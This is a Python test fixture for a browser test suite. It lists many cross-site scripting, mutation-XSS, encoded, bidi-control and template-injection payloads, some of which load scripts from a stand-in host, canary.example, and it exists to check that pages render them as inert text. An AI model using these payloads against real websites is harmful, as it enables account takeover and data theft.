"""Injection payloads. Each payload tries to set the canary variable `harmed`.

`tests/browser/test_hostile_text.py` puts each payload into every field and checks that every page
shows it as text. Its first test writes the payloads as markup, to prove that they work.
"""

from __future__ import annotations

from itertools import zip_longest
from typing import Final

from tests.sampling import IS_LONG

# No page may send a request to this host; such a request comes from a URL in a payload.
CANARY_HOST: Final = "canary.example"

_ELEMENTS: Final = (
    "<script>harmed=1</script>",
    "<ScRiPt>harmed=1</sCrIpT>",
    f"<script src=https://{CANARY_HOST}/x.js></script>",
    "<script/defer>harmed=1</script >",
    "<scr<script>ipt>harmed=1</scr</script>ipt>",
    '<iframe src="javascript:parent.harmed=1"></iframe>',
    '<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>',
    f"<object data=https://{CANARY_HOST}/x></object>",
    f"<embed src=//{CANARY_HOST}/x>",
    f'<link rel=stylesheet href="https://{CANARY_HOST}/x.css">',
    f'<meta http-equiv="refresh" content="0;url=https://{CANARY_HOST}/">',
    f"<base href=https://{CANARY_HOST}/>",
    f"<form action=https://{CANARY_HOST}/><input name=q autofocus onfocus=harmed=1></form>",
    "<template><img src=x onerror=harmed=1></template>",
    f'<video><source src="//{CANARY_HOST}/v" onerror="harmed=1"></video>',
    "<frameset onload=harmed=1>",
    "<plaintext><b>x",
)

_HANDLERS: Final = (
    '<img src=x onerror="harmed=1">',
    "<img src=x:x onerror=harmed=1//",
    "<IMG/SRC=x/ONERROR=harmed=1>",
    "<body onload=harmed=1>",
    "<details open ontoggle=harmed=1>",
    "<input autofocus onfocus=harmed=1>",
    "<marquee onstart=harmed=1>",
    "<div style=animation-name:x onanimationstart=harmed=1>x</div>",
    "<a onpointerover=harmed=1 style=position:fixed;inset:0>x</a>",
    "<audio src=x onerror=harmed=1>",
)

_OUT_OF_ATTRIBUTES: Final = (
    '"><img src=x onerror=harmed=1>',
    "'><img src=x onerror=harmed=1>",
    '" onmouseover="harmed=1" x="',
    "' onfocus='harmed=1' autofocus='",
    " autofocus onfocus=harmed=1 x=",
    "` onmouseover=harmed=1 `",
    '"/><script>harmed=1</script><x y="',
    '" srcdoc="<script>harmed=1</script>" x="',
    '" style="position:fixed;inset:0;background:url(//' + CANARY_HOST + ')" x="',
)

_OUT_OF_TEXT: Final = (
    "</script><script>harmed=1</script>",
    "</script ><img src=x onerror=harmed=1>",
    "<!--<script>harmed=1",
    "--><img src=x onerror=harmed=1><!--",
    "</textarea><img src=x onerror=harmed=1>",
    "</title><img src=x onerror=harmed=1>",
    "</style><img src=x onerror=harmed=1>",
    "</noscript><img src=x onerror=harmed=1>",
    "</select></option><img src=x onerror=harmed=1>",
    "]]><img src=x onerror=harmed=1>",
    '\\"};harmed=1;//',
    "';harmed=1;'",
    "\\u003cimg src=x onerror=harmed=1\\u003e",
    '","__proto__":{"harmed":1},"x":"',
)

_ADDRESSES: Final = (
    "javascript:harmed=1",
    "JaVaScRiPt:harmed=1//",
    "java\tscript:harmed=1",
    "\x01javascript:harmed=1",
    "javascript://%0aharmed=1",
    "data:text/html,<script>opener.harmed=1</script>",
    "data:text/html;base64,PHNjcmlwdD5oYXJtZWQ9MTwvc2NyaXB0Pg==",
    "vbscript:harmed=1",
    f"//{CANARY_HOST}/",
    f"https://{CANARY_HOST}\\@example.org/<img src=x onerror=harmed=1>",
    "[x](javascript:harmed=1)",
    f"![x](https://{CANARY_HOST}/x.png)",
)

_OTHER_MARKUP: Final = (
    "<svg onload=harmed=1>",
    "<svg><script>harmed=1</script></svg>",
    "<svg><animate onbegin=harmed=1 attributeName=x dur=1s>",
    '<svg><a xlink:href="javascript:harmed=1"><text y=20>x</text></a></svg>',
    f'<svg><use href="https://{CANARY_HOST}/x.svg#x"></use><image href="https://{CANARY_HOST}/x.png"></svg>',
    "<svg><foreignObject><img src=x onerror=harmed=1></foreignObject></svg>",
    '<math><mtext><a href="javascript:harmed=1">x</a></mtext></math>',
    f'<style>@import "https://{CANARY_HOST}/x.css"</style>',
    f"<style>*{{background:url(https://{CANARY_HOST}/x)}}</style>",
    f"}}*{{background-image:url(//{CANARY_HOST}/x)}}",
    "red;-moz-binding:url(x);width:expression(harmed=1)",
)

# What a browser writes out otherwise than it was read in: text that is harmless until it is parsed
# twice.
_MUTATING: Final = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=harmed=1&gt;'>",
    "<svg></p><style><a title='</style><img src=x onerror=harmed=1>'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=harmed=1>",
    "<noscript><p title='</noscript><img src=x onerror=harmed=1>'>",
    "<xmp><p title='</xmp><img src=x onerror=harmed=1>'>",
    "<a title='&quot;><img src=x onerror=harmed=1>'>x",
)

_ENCODED: Final = (
    "&lt;img src=x onerror=harmed=1&gt;",
    "&#60;img src=x onerror=harmed=1&#62;",
    "&amp;lt;script&amp;gt;harmed=1&amp;lt;/script&amp;gt;",
    "%3Cimg%20src=x%20onerror=harmed=1%3E",
    "%253Cscript%253Eharmed=1%253C/script%253E",
    "+ADw-script+AD4-harmed=1+ADw-/script+AD4-",
    "\\x3cimg src=x onerror=harmed=1\\x3e",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}harmed=1",
    "\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}img src=x onerror=harmed=1"
    "\N{SINGLE RIGHT-POINTING ANGLE QUOTATION MARK}",
)

# Characters that change the text direction: overrides, isolates that are not closed, and PDI, which
# closes the isolation of an element.
DIRECTIONS: Final = (
    "\u2069\u2069\u202eharmed=1",
    "\u202eharmed=1",
    "\u2067\u2068\u202dharmed=1\u202c",
)

_TEMPLATES: Final = (
    "{{ 7 * 7 }}{% if 1 %}harmed{% endif %}",
    "{{ config.__class__.__init__.__globals__ }}",
    "${harmed=1}#{harmed=1}<%= 7 * 7 %>",
    "{title}{event.__init__.__globals__}{0}%s%(title)s",
    "{{constructor.constructor('harmed=1')()}}",
    "$& $` $' $1 $$",
)

_ODD_LETTERS: Final = (
    "<img src=x o\N{ZERO WIDTH SPACE}nerror=harmed=1>",
    "<img\x0bsrc=x\x0conerror=harmed=1>",
    "\\0%00\x01\x1f\x7f<img src=x onerror=harmed=1>",
    "\N{RIGHT-TO-LEFT OVERRIDE}>1=demrah=rorreno x=crs gmi<\N{POP DIRECTIONAL FORMATTING}",
    "\N{RIGHT-TO-LEFT ISOLATE}<svg/onload=harmed=1>",
    "\N{BYTE ORDER MARK}<script>harmed=1</script>\N{LINE SEPARATOR}\N{PARAGRAPH SEPARATOR}",
    "\N{LATIN SMALL LETTER DOTLESS I}<s\N{LATIN SMALL LETTER LONG S}cript>harmed=1",
    "Z\N{COMBINING ACUTE ACCENT}" + "\N{COMBINING GRAVE ACCENT}" * 40 + "<img src=x onerror=harmed=1>",
    "<img src=x onerror=harmed=1>" + "A" * 1500,
    "<" * 400 + "img src=x onerror=harmed=1>",
)

FAMILIES: Final = (
    _ADDRESSES,
    _ELEMENTS,
    _HANDLERS,
    _OUT_OF_ATTRIBUTES,
    _OUT_OF_TEXT,
    _OTHER_MARKUP,
    _MUTATING,
    _ENCODED,
    _TEMPLATES,
    _ODD_LETTERS,
    DIRECTIONS,
)
# `make test` tries a fifth of each family.
_STEP: Final = 1 if IS_LONG else 5
PAYLOADS: Final = tuple(payload for family in FAMILIES for payload in family[::_STEP])
_HALF: Final = (len(PAYLOADS) + 1) // 2
# Two payloads in each text, so that half as many pages are needed. URLs come first, because they
# only work at the beginning of a text.
PAIRS: Final = tuple(" ".join(pair) for pair in zip_longest(PAYLOADS[:_HALF], PAYLOADS[_HALF:], fillvalue=PAYLOADS[-1]))


def payload_groups(max_length: int) -> list[str]:
    """Joins the payloads to texts of at most `max_length` characters. A longer payload is cut and
    is a text of its own.
    """
    groups = [""]
    for payload in PAYLOADS:
        longer = f"{groups[-1]} {payload}".strip(" ")
        if len(longer) <= max_length:
            groups[-1] = longer
        else:
            groups.append(payload[:max_length])
    return [group for group in groups if group]
